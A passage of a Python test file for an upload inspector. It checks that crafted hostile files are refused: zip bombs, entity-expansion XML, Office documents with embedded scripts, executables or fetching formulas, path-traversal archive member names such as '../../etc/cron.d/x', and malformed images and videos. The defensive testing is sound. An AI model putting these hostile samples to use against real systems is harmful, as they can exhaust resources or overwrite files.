        lambda: o.sheet("<c><formula>WEBSERVICE(A1)</formula></c>"),
        "fetching-formula",
        "",
    ),
    "a formula that asks another program": (
        "a.xlsx",
        lambda: o.sheet('<c><f>RTD("x",,"y")</f></c>'),
        "live-link",
        "",
    ),
    "a shortcut inside a document": (
        "a.docx",
        lambda: o.with_part("word/embeddings/a.lnk", b"x"),
        "embedded-file",
        "",
    ),
    "a script inside a document": (
        "a.docx",
        lambda: o.with_part("word/embeddings/a.js", "alert(1)"),
        "embedded-file",
        "",
    ),
    "a script by another name inside a document": (
        "a.docx",
        lambda: o.with_part("word/embeddings/a.bin", "alert(1)"),
        "embedded-file",
        "",
    ),
    "a page that is XML inside a document": (
        "a.docx",
        lambda: o.with_part("word/embeddings/a.xml", "<a/>"),
        "embedded-file",
        "",
    ),
    "a shortcut among the pictures": (
        "a.docx",
        lambda: o.with_part("word/media/a.png", b"L\0\0\0\x01\x14\x02\0" + bytes(9)),
        "embedded-file",
        "",
    ),
    "a script among the pictures": (
        "a.docx",
        lambda: o.with_part("word/media/a.VBS", "x"),
        "embedded-file",
        "",
    ),
    # Office: what is inside
    "a program inside a document": (
        "a.docx",
        lambda: o.with_part("word/media/image1.png", b"MZ" + bytes(99)),
        "embedded-file",
        "",
    ),
    "a program wrapped in an object": (
        "a.docx",
        lambda: o.with_part("word/embeddings/oleObject1.bin", o.ole("\x01Ole10Native")),
        "embedded-file",
        "",
    ),
    "a program wrapped in an object whose name is spelt otherwise": (
        "a.docx",
        lambda: o.with_part("word/embeddings/oleObject1.bin", o.ole("\x01OLE10nATIVE")),
        "embedded-file",
        "",
    ),
    "a file wrapped in an object": (
        "a.docx",
        lambda: o.with_part("word/embeddings/oleObject1.bin", o.ole("Package")),
        "embedded-file",
        "",
    ),
    "macros in an object whose name is spelt otherwise": (
        "a.docx",
        lambda: o.with_part("word/embeddings/oleObject1.bin", o.ole("_vba_project")),
        "macros",
        "",
    ),
    "an equation of an old program": (
        "a.docx",
        lambda: o.with_part("word/embeddings/oleObject1.bin", o.ole("Equation Native")),
        "embedded-object",
        "",
    ),
    "an object of an unknown program among the pictures": (
        "a.docx",
        lambda: o.with_part("word/media/image1.emf", o.ole("CONTENTS")),
        "embedded-object",
        "",
    ),
    "an old object in the workbook behind a chart": (
        "a.docx",
        lambda: o.with_part(
            "word/embeddings/Sheet1.xlsx",
            o.with_part("xl/embeddings/oleObject1.bin", o.ole("CONTENTS"), "xlsx"),
        ),
        "embedded-object",
        "",
    ),
    "an archive inside a document": (
        "a.docx",
        lambda: o.with_part("word/media/a.png", o.packed({"a.exe": "MZ"})),
        "embedded-file",
        "",
    ),
    "an archive named as a workbook inside a document": (
        "a.docx",
        lambda: o.with_part("word/embeddings/Sheet1.xlsx", o.packed({"a.exe": "MZ"})),
        "embedded-file",
        "",
    ),
    "a document in a document in a document": (
        "a.docx",
        lambda: o.with_part(
            "word/embeddings/a.docx", o.with_part("word/embeddings/b.docx", o.document())
        ),
        "embedded-file",
        "",
    ),
    "a web page as a part": (
        "a.docx",
        lambda: o.with_relation("aFChunk", "chunk.html"),
        "embedded-file",
        "",
    ),
    "entities that multiply": (
        "a.docx",
        lambda: o.packed(o.parts() | {"word/document.xml": o.LAUGHS}),
        "entities",
        "",
    ),
    "entities in another encoding": (
        "a.docx",
        lambda: o.packed(o.parts() | {"word/document.xml": o.LAUGHS.encode("utf-16")}),
        "entities",
        "",
    ),
    "XML that is none": (
        "a.docx",
        lambda: o.packed(o.parts() | {"word/document.xml": "<w:document>"}),
        "damaged",
        "",
    ),
    "a document without its main part": (
        "a.docx",
        lambda: o.packed(o.parts(**{"word/document.xml": None})),
        "damaged",
        "",
    ),
    "a document without relations": (
        "a.docx",
        lambda: o.packed(o.parts(**{"_rels/.rels": None})),
        "damaged",
        "",
    ),
    # Office: the archive it is packed in
    "half a document": ("a.docx", lambda: o.document()[:200], "cut-short", ""),
    "a zip bomb": ("a.docx", o.bomb, "unpacks-too-large", ""),
    "a zip bomb below the most that may be unpacked": (
        "a.docx",
        lambda: o.bomb(60),
        "unpacks-too-large",
        "",
    ),
    "many small zip bombs": ("a.docx", o.many_small_bombs, "unpacks-too-large", ""),
    "a list of types of many megabytes": (
        "a.docx",
        lambda: o.packed(o.parts() | {"[Content_Types].xml": " " * 9_000_000}),
        "unpacks-too-large",
        "",
    ),
    "members that share their bytes": ("a.docx", o.with_shared_bytes, "unsafe-parts", ""),
    "a member larger than announced": ("a.docx", o.with_lying_size, "unpacks-too-large", ""),
    "a member smaller than announced": (
        "a.docx",
        lambda: o.with_lying_size(announced=9000),
        "damaged",
        "",
    ),
    "a damaged member": ("a.docx", o.with_damaged_member, "damaged", ""),
    "very many parts": (
        "a.docx",
        lambda: o.packed(o.parts() | {f"word/{n}.xml": "<a/>" for n in range(60)}),
        "too-many-parts",
        "",
    ),
    "a part that climbs": (
        "a.docx",
        lambda: o.with_part("../../etc/cron.d/x", "x"),
        "unsafe-parts",
        "",
    ),
    "a part at the root": ("a.docx", lambda: o.with_part("/etc/passwd", "x"), "unsafe-parts", ""),
    "a part on a disk": ("a.docx", lambda: o.with_part("C:/x.dll", "x"), "unsafe-parts", ""),
    "a part with a backslash": ("a.docx", lambda: o.with_part("..\\x", "x"), "unsafe-parts", ""),
    "a part that is a link": ("a.docx", o.with_symlink, "unsafe-parts", ""),
    "two parts of one name": ("a.docx", o.with_repeated_name, "unsafe-parts", ""),
    "a part with two names": ("a.docx", o.with_lying_name, "unsafe-parts", ""),
    "a part packed in an unusual way": (
        "a.docx",
        lambda: o.packed(o.parts(), compression=zipfile.ZIP_BZIP2),
        "unsafe-parts",
        "",
    ),
    "an encrypted archive": ("a.docx", lambda: o.with_flag(1), "locked", ""),
    # Pictures
    "half a JPG": (
        "a.jpg",
        lambda: f.picture("JPEG", (900, 900))[:4000],
        "damaged",
        "jpg",
    ),
    "half a PNG": ("a.png", lambda: f.picture(size=(900, 900))[:4000], "damaged", "png"),
    "a PNG of rubbish": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + b"x" * 99, "damaged", "png"),
    "a picture of 2,500 million pixels": ("a.png", f.huge_png, "too-many-pixels", "png"),
    "a picture of 64 million pixels": (
        "a.png",
        lambda: f.huge_png(8_000),
        "too-many-pixels",
        "png",
    ),
    "a picture that moves": ("a.png", f.animated, "moving-picture", "png"),
    # Video
    "half a video": ("a.mp4", lambda: f.mp4()[:-60], "cut-short", "mp4"),
    "a video without an index": ("a.mp4", lambda: f.mp4(moov=b""), "damaged", "mp4"),
    "a video of rubbish": (
        "a.mp4",
        lambda: f.mp4(moov=b"") + b"\0\0\0\x02\xff\xff\xff\xff" + bytes(9),
        "damaged",
        "mp4",
    ),
    "a video whose inner box is longer than the outer": (
        "a.mp4",
        lambda: f.mp4(moov=f.box(b"moov", b"\0\0\xff\xffmvhd")),
        "damaged",
        "mp4",
    ),
    "a video of boxes within boxes": (
        "a.mp4",
        lambda: f.mp4(moov=f.box(b"moov", f.box(b"free") * 200_001)),
        "too-complex",
        "mp4",
    ),
    "sound in a video's clothes": (
        "a.mp4",
        lambda: f.mp4(moov=f.box(b"moov", f.header() + f.track(b"soun", b"mp4a"))),
        "no-video",
        "mp4",
    ),
    "a video with an unknown header": (
        "a.mp4",
        lambda: f.mp4(moov=f.box(b"moov", f.box(b"mvhd", b"\x09" + bytes(60)) + f.track())),
        "damaged",
        "mp4",
    ),
    "a video whose index fills the memory": (
        "a.mp4",
        lambda: f.mp4(more=f.box(b"free", bytes(2_100_000))),
        "too-complex",
        "mp4",
    ),
    "a video that is locked": (
        "a.mp4",
        lambda: f.mp4(moov=f.box(b"moov", f.header() + f.track(coding=b"encv"))),
        "locked",
        "mp4",
    ),
}


def here(task, path, limits):
    """The same look without a process of its own."""
    return child.answer(LOOKS[task], path, limits)


def verdict(tmp_path, name, content, run=here, size=None, **how):
    path = tmp_path / "stored"
    path.write_bytes(content)
    announced = len(content) if size is None else size
    return inspect(path, name, announced, limits=how.pop("limits", SMALL), run=run, **how)


@pytest.mark.parametrize("run", [here, confined.run], ids=["here", "confined"])
@pytest.mark.parametrize("case", ACCEPTED)
def test_a_sound_file_is_accepted_with_what_it_is(tmp_path, case, run):
    name, content, kind, facts = ACCEPTED[case]

    found = verdict(tmp_path, name, content(), run)

    assert (found.outcome, found.code, found.kind) == (Outcome.ACCEPTED, "", kind), found.words
    assert found.content_type == KINDS[kind].content_type
    assert (found.scanned, found.facts) == (Scan.NOT_SCANNED, facts)


@pytest.mark.parametrize("run", [here, confined.run], ids=["here", "confined"])
@pytest.mark.parametrize("case", REFUSED)
def test_a_file_that_may_do_harm_or_is_no_use_is_refused_with_its_reason(tmp_path, case, run):
    name, content, code, kind = REFUSED[case]

    found = verdict(tmp_path, name, content(), run)

    assert (found.outcome, found.code, found.kind) == (Outcome.REFUSED, code, kind), found.words
    assert found.words.endswith(".")
    assert "{" not in found.words
    assert found.scanned == Scan.NOT_SCANNED


def test_at_least_forty_hostile_files_are_tried():
    assert len(REFUSED) >= 40


def test_every_reason_is_tried():
    elsewhere = {"incomplete", "too-complex", "virus", "scanner-silent"}

    assert {code for _, _, code, _ in REFUSED.values()} | elsewhere == set(REASONS)


@pytest.mark.parametrize("code", REASONS)
def test_a_reason_says_what_to_do_in_the_house_s_words(code):
    for sentence in REASONS[code]:
        assert sentence.endswith(".")
        for banned in ("invalid", "please", "sorry", "error", "successfully"):
            assert banned not in sentence.lower()


def test_a_file_that_did_not_arrive_whole_is_refused(tmp_path):
    found = verdict(tmp_path, "work.pdf", f.pdf()[:100], size=5000)

    assert (found.code, str(found.reason)) == (
        "incomplete",
        "The file did not arrive whole: 100 of 5000 bytes came.",
    )


def test_an_announced_size_over_the_limit_is_refused_before_anything_is_read(tmp_path):
    assert verdict(tmp_path, "work.pdf", b"%PDF-", size=9_000_000).code == "too-large"


def test_the_words_name_the_kinds_and_what_to_do(tmp_path):
    found = verdict(tmp_path, "work.pdf", o.document())

    assert found.words == (
        "The name ends in .pdf, but the file is a Word document. "
        "Choose the right file, or change the ending to .docx."
    )


def test_a_pdf_that_unpacks_to_hundreds_of_megabytes_is_stopped_by_the_memory_or_else_by_measure(
    tmp_path,
):
    path = tmp_path / "stored"
    path.write_bytes(f.pdf_object_bomb())
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    found, control = (
        inspect(path, "work.pdf", path.stat().st_size, limits=replace(SMALL, memory_bytes=most))
        for most in (Limits().memory_bytes, 4096 * MEGABYTE)
    )

    assert (found.outcome, found.code) == (Outcome.REFUSED, "damaged")
    assert (control.outcome, control.code) == (Outcome.REFUSED, "pdf-unpacks-too-large")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024


@pytest.fixture
def program(tmp_path, monkeypatch):
    """Have a shell script run in the place of Python."""

    def put(script):
        path = tmp_path / "program"
        path.write_text(f"#!/bin/sh\n{script}\n")
        path.chmod(0o755)
        monkeypatch.setattr(sys, "executable", str(path))

    return put


@pytest.mark.parametrize(
    ("script", "code"),
    [
        ("kill -XCPU $$", "too-complex"),
        ("kill -KILL $$", "too-complex"),
        ("kill -SEGV $$", "damaged"),
        ("exit 1", "damaged"),
        ("exec sleep 20", "too-complex"),
    ],
)
def test_a_process_that_ends_badly_is_an_answer_too(tmp_path, program, script, code):
    program(script)

    told = confined.run("pdf", tmp_path, replace(SMALL, seconds=-confined.GRACE_SECONDS + 1))

    assert told == {"code": code, "values": {}}


def test_the_process_that_opens_a_file_knows_no_secret(tmp_path, program, monkeypatch):
    monkeypatch.setenv("SECRET_KEY", "do-not-tell")
    program("""printf '{"seen": "%s"}' "$SECRET_KEY$DATABASE_URL$PATH_OF_SECRETS" """)

    assert confined.run("pdf", tmp_path, SMALL) == {"seen": ""}
